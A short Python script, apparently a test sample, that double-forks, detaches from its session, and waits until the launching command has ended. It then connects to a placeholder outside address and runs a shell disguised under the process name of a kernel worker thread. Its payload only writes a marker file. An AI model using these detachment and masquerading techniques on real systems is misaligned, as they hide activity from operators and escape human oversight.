"""Leaves its parent, its session and its folder, and acts from there when the command has ended."""

import os
import socket


def main():
    ended, held = os.pipe()
    if os.fork():
        return
    os.close(held)
    os.setsid()
    if os.fork():
        os._exit(0)
    os.chdir("/")
    os.read(ended, 1)
    with socket.socket() as connection:
        connection.connect(("203.0.113.18", 4018))
    os.execv("/bin/sh", ["[kworker/0:1]", "-c", "echo late > ~/late.txt; sleep 1000"])
